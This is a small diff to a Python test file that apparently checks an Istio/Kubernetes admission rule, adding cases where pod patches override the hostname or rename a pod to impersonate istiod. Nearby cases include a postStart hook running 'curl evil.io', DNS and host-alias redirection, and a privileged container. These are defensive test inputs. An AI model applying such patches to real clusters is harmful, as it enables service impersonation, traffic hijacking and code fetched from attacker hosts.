@@ -158,6 +158,8 @@ def test_the_mesh_s_own_pods_are_left_alone(pod: Json) -> None:
         [annotation("sidecar.istio.io/bootstrapOverride", "shop")],
         [put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})],
         [put("/spec/hostAliases", [{"ip": "10.9.9.9", "hostnames": ["erp.example.com"]}])],
+        [put("/spec/hostnameOverride", "shop.example.com")],
+        [put("/metadata/name", "istiod.istio-system.svc")],
         [put("/spec/dnsConfig", {"nameservers": ["10.9.9.9"]})],
         [put(APP + "/securityContext/privileged", True)],
         [put(APP + "/env/-", {"name": "PROXY_CONFIG", "value": "{serviceCluster: $(APP)}"})],
